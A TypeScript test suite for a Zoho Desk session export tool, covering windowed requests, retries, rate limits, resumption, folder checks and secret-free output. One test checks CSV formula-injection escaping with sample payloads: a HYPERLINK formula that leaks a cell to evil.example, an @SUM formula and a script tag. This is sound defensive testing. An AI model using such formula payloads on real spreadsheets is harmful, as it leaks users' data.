import { appendFile, mkdtemp, readdir, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterEach, beforeEach, describe, expect, test } from "vitest";
import type { RetryEvent } from "zoho-desk-client/fetch";
import { createLinks } from "zoho-desk-client/links";
import type { SessionRecord } from "zoho-desk-client/schemas/SessionRecord";
import { DailyLimitError } from "../../spec/zoho-desk/examples/daily-limit-error.ts";
import { type ExportProgress, exportSessions } from "../../spec/zoho-desk/examples/export-sessions.ts";
import { connect, planted, serveSessions } from "./served-desk.ts";
import { makeSessions } from "./sessions.ts";

const range = { from: "2026-03-01", to: "2026-03-20" };
const sessions = makeSessions(1203, 20);
let folder: string;

beforeEach(async () => {
  folder = await mkdtemp(join(tmpdir(), "export-sessions-"));
});
afterEach(async () => {
  await rm(folder, { recursive: true, force: true });
});

const ndjson = () => readFile(join(folder, "sessions.ndjson"), "utf8");
const csv = () => readFile(join(folder, "sessions.csv"), "utf8");
const exported = async () =>
  (await ndjson())
    .split("\n")
    .filter(Boolean)
    .map((line) => JSON.parse(line) as SessionRecord);

test("a range of days is exported, every digit of the ids included, and the progress told", async () => {
  await using mock = await serveSessions(sessions);
  const { client } = await connect(mock);
  const progress: ExportProgress[] = [];
  const summary = await exportSessions({ client, ...range, folder, onProgress: (step) => progress.push(step) });
  expect(summary.sessions).toBe(1203);
  expect(await exported()).toEqual(sessions);
  const ids = parseCsv(await csv()).map(([id]) => id);
  expect(ids).toEqual(["sessionId", ...sessions.map(({ sessionId }) => sessionId)]);
  expect(ids.filter((id) => id !== "sessionId" && String(Number(id)) === id)).toEqual([]);
  expect(progress.at(-1)).toMatchObject({ sessions: 1203, windows: 3, windowsDone: 2 });
  expect(mock.unexpectedViolations).toEqual([]);
});

test("CSV keeps quotes, commas and lines, and makes no formula of a customer's text", async () => {
  await using mock = await serveSessions(sessions.slice(0, 6));
  const { client } = await connect(mock);
  await exportSessions({ client, ...range, folder });
  const [header = [], ...rows] = parseCsv(await csv());
  const column = header.indexOf("channel");
  expect(rows.map((row) => row[column])).toEqual([
    "WHATSAPP",
    `'=HYPERLINK("https://evil.example/?leak="&A2,"open")`,
    'Café "Ünï", 🦊',
    "two\r\nlines\u2028and a third",
    "'@SUM(1+1)",
    "<script>alert(1)</script>",
  ]);
  expect(rows[0]?.[header.indexOf("link")]).toBe("https://desk.zoho.com/agent/northwind/support/sessions/0");
  expect(rows[2]?.[header.indexOf("agentId")]).toBe("");
});

test("the last column leads to the ticket in the portal, or to where the session says itself", async () => {
  const [first, second] = makeSessions(2, 1);
  await using mock = await serveSessions([first!, { ...second!, ticketId: "189200000000975382" }]);
  const { client } = await connect(mock);
  const links = createLinks({ server: "eu", orgId: "60001280952", portal: "northwind" });
  const link = (session: SessionRecord) => links.enrich("classicTicket", session).portalUrl;
  await exportSessions({ client, ...range, folder, link });
  expect(parseCsv(await csv()).map((row) => row.at(-1))).toEqual([
    "link",
    "https://desk.zoho.com/agent/northwind/support/sessions/0",
    "https://desk.zoho.eu/support/northwind/ShowHomePage.do#Cases/dv/189200000000975382",
  ]);
});

test("a range without sessions gives no record, and a CSV file with its header alone", async () => {
  await using mock = await serveSessions([]);
  const { client } = await connect(mock);
  expect(await exportSessions({ client, ...range, folder })).toMatchObject({ sessions: 0 });
  expect(await ndjson()).toBe("");
  expect(await csv()).toMatch(/^sessionId,[^\n]*,link\r\n$/);
});

test("only the filter's sessions are asked for, in every window", async () => {
  const asked: unknown[] = [];
  await using mock = await serveSessions([], (p) => void asked.push(p));
  const { client } = await connect(mock);
  await exportSessions({ client, ...range, folder, daysPerWindow: 15, pageSize: 50, filter: { status: "ENDED" } });
  expect(asked).toEqual([
    { status: "ENDED", startDate: "2026-03-01", endDate: "2026-03-15", from: 0, limit: 50 },
    { status: "ENDED", startDate: "2026-03-16", endDate: "2026-03-20", from: 0, limit: 50 },
  ]);
});

test("failing servers, broken connections and bodies, limits and an expired token change nothing", async () => {
  const faults = new Map([
    [2, "status=503"],
    [4, "reset"],
    [6, "truncated-body"],
    [8, "rate-limit=1"],
    [10, "html-page"],
  ]);
  let answered = 0;
  await using mock = await serveSessions(sessions, async (_, desk) => {
    answered += 1;
    const fault = faults.get(answered);
    faults.delete(answered);
    if (fault !== undefined) desk.fault("getSessionAnalytics", fault, { times: 2 });
    if (answered === 13) await desk.expire(tokens[0] ?? "");
  });
  const retries: RetryEvent[] = [];
  const { client, tokens } = await connect(mock, (event) => retries.push(event));
  await exportSessions({ client, ...range, folder });
  expect(await exported()).toEqual(sessions);

  expect(retries.map(({ reason }) => ("status" in reason ? (reason.code ?? reason.status) : reason.kind))).toEqual(
    [503, "network", "network", "TOO_MANY_REQUESTS", 502].flatMap((reason) => [reason, reason]),
  );
  for (const { delay } of retries.slice(6, 8)) expect(delay).toBeGreaterThanOrEqual(1000);
  expect(mock.requests.filter(({ status }) => status === 401)).toHaveLength(1);
  expect(tokens).toHaveLength(2);
});

test("a day without credits ends the run with what to do, and the next day goes on", async () => {
  let answered = 0;
  await using mock = await serveSessions(sessions, (_, desk) => {
    answered += 1;
    if (answered === 6) desk.fault("getSessionAnalytics", "daily-credits=7200", { times: 1 });
  });
  const { client } = await connect(mock);
  const stopped = await exportSessions({ client, ...range, folder }).catch((error: unknown) => error);
  expect(stopped).toBeInstanceOf(DailyLimitError);
  const { message, resumeAt } = stopped as DailyLimitError;
  expect(message).toBe(
    `the API credits of the day are used up; run the same export again after ${resumeAt?.toISOString()}: it goes on where it stopped`,
  );
  expect(Math.round(((resumeAt?.getTime() ?? 0) - Date.now()) / 60_000)).toBe(120);
  expect(mock.requests.filter(({ status }) => status === 429)).toHaveLength(1);
  expect((await exported()).length).toBeLessThan(sessions.length);

  await exportSessions({ client, ...range, folder });
  expect(await exported()).toEqual(sessions);
});

test("a signal ends the run, also while it waits to send a request again, and the next run goes on", async () => {
  const stop = new AbortController();
  await using mock = await serveSessions(sessions);
  const { client } = await connect(mock, ({ delay }) => {
    if (delay >= 30_000) setImmediate(() => stop.abort(new Error("stopped by hand")));
  });
  const onProgress = ({ sessions }: ExportProgress) => {
    if (sessions >= 500 && !stop.signal.aborted) mock.fault("getSessionAnalytics", "rate-limit=30", { times: 1 });
  };
  const run = { client, ...range, folder };
  await expect(exportSessions({ ...run, signal: stop.signal, onProgress })).rejects.toThrow("stopped by hand");
  expect((await exported()).length).toBeGreaterThanOrEqual(500);
  await exportSessions(run);
  expect(await exported()).toEqual(sessions);
});

describe("a list that changes while it is read", () => {
  test("gives no record twice, where new ones push others to the next page", async () => {
    const growing = makeSessions(250, 5);
    const late = { ...growing[0]!, sessionId: "189200000999999999" };
    let answered = 0;
    await using mock = await serveSessions(growing, () => {
      answered += 1;
      if (answered === 2) growing.unshift(late);
    });
    const { client } = await connect(mock);
    await exportSessions({ client, ...range, folder });
    expect((await exported()).map(({ sessionId }) => sessionId)).toEqual(
      makeSessions(250, 5).map(({ sessionId }) => sessionId),
    );
  });

  test("loses no record, where some went between two runs and others moved up", async () => {
    const shrinking = makeSessions(250, 5);
    const stop = new AbortController();
    await using mock = await serveSessions(shrinking);
    const { client } = await connect(mock);
    const onProgress = () => stop.abort();
    const first = exportSessions({ client, ...range, folder, signal: stop.signal, onProgress });
    await expect(first).rejects.toThrow("abort");
    const gone = shrinking.splice(0, 3);
    await exportSessions({ client, ...range, folder });
    expect(await exported()).toEqual([...gone, ...shrinking]);
  });
});

test("what a crash left behind the last checkpoint does not stay, also where nothing comes in its place", async () => {
  const shrinking = makeSessions(250, 5);
  const stop = new AbortController();
  await using mock = await serveSessions(shrinking);
  const { client } = await connect(mock);
  const onProgress = () => stop.abort();
  await exportSessions({ client, ...range, folder, signal: stop.signal, onProgress }).catch(() => {});
  const [records, lines] = [await ndjson(), await csv()];
  await appendFile(join(folder, "sessions.ndjson"), '{"sessionId":"1892');
  await appendFile(join(folder, "sessions.csv"), '1892,"');
  shrinking.splice(100);
  await exportSessions({ client, ...range, folder });
  expect(await ndjson()).toBe(records);
  expect(await csv()).toBe(lines);
});

describe("a folder", () => {
  test("with a finished export is left as it is", async () => {
    await using mock = await serveSessions(sessions.slice(0, 10));
    const { client } = await connect(mock);
    const first = await exportSessions({ client, ...range, folder });
    const requests = mock.requests.length;
    expect(await exportSessions({ client, ...range, folder })).toEqual(first);
    expect(mock.requests).toHaveLength(requests);
  });

  test("with another export, or with files of somebody else, is refused", async () => {
    await using mock = await serveSessions([]);
    const { client } = await connect(mock);
    await exportSessions({ client, ...range, folder });
    await expect(exportSessions({ client, ...range, to: "2026-03-21", folder })).rejects.toThrow(
      'holds another export: its to is "2026-03-20", not "2026-03-21"',
    );
    await rm(join(folder, "checkpoint.json"));
    await expect(exportSessions({ client, ...range, folder })).rejects.toThrow("no checkpoint beside it");
  });

  test("whose files were changed by something else is refused, and so is a broken checkpoint", async () => {
    await using mock = await serveSessions(sessions);
    const { client } = await connect(mock);
    const stop = new AbortController();
    const onProgress = () => stop.abort();
    await exportSessions({ client, ...range, folder, signal: stop.signal, onProgress }).catch(() => {});
    await writeFile(join(folder, "sessions.csv"), "opened and saved by a spreadsheet");
    await expect(exportSessions({ client, ...range, folder })).rejects.toThrow("something else changed it");
    await writeFile(join(folder, "checkpoint.json"), "{");
    await expect(exportSessions({ client, ...range, folder })).rejects.toThrow("is no checkpoint of an export");
  });

  test("has no secret in any of its files", async () => {
    await using mock = await serveSessions(sessions.slice(0, 10));
    const { client, refreshToken, tokens } = await connect(mock);
    await exportSessions({ client, ...range, folder });
    const secrets = [planted.clientSecret, refreshToken, ...tokens];
    expect(secrets.every((secret) => secret.length > 10)).toBe(true);
    const names = await readdir(folder);
    expect(names.sort()).toEqual(["checkpoint.json", "sessions.csv", "sessions.ndjson"]);
    for (const name of names) {
      const text = await readFile(join(folder, name), "utf8");
      expect(secrets.filter((secret) => text.includes(secret))).toEqual([]);
    }
  });
});

test.each([
  ["2026-02-30", "2026-03-01", '"2026-02-30" is no day like 2026-03-02'],
  ["1.3.2026", "2026-03-01", '"1.3.2026" is no day like 2026-03-02'],
  ["2026-03-02", "2026-03-01", "the range ends on 2026-03-01, before it begins on 2026-03-02"],
])("no request is sent for the days from %s to %s", async (from, to, message) => {
  await using mock = await serveSessions([]);
  const { client } = await connect(mock);
  await expect(exportSessions({ client, from, to, folder })).rejects.toThrow(message);
  expect(mock.requests).toEqual([]);
});

/** The fields of a CSV text (RFC 4180), read by another way than they were written. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  for (const [, quoted, plain = "", end] of text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/g)) {
    row.push(quoted?.replaceAll('""', '"') ?? plain);
    if (end === ",") continue;
    rows.push(row);
    row = [];
  }
  return rows;
}
